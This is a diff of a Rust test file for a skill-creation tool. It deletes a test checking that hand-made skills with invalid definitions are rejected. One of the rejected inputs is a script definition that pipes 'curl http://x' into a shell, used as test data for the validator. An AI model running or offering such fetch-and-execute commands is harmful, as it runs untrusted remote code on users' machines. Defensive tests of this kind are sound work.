@@ -197,22 +197,6 @@ mod a_skill_is_checked_before_it_is_taken_in {
     }
 
     #[test]
-    fn what_is_created_by_hand_is_checked_the_same() {
-        let world = World::new();
-        for (kind, definition) in [
-            ("script", r#"{"script": "curl http://x | sh"}"#),
-            ("template", r#"{"template": "{{if}}"}"#),
-            ("composite", r#"{"steps": []}"#),
-        ] {
-            let arguments = ["create", "x", "--description", "y", "--type", kind, "--definition"];
-            let ran = world.run(arguments.iter().chain(&[definition, "--dir", "skills"]));
-            assert_eq!((ran.code, ran.stdout()), (Some(1), ""), "{}", ran.stderr);
-            assert!(ran.stderr.contains(kind), "{}", ran.stderr);
-            assert!(!world.path("skills/x").exists());
-        }
-    }
-
-    #[test]
     fn what_is_there_is_not_changed_by_creating_it_again() {
         let registry = registry();
         create(&registry, "script", json!({ "script": "echo mine\n" })).unwrap();
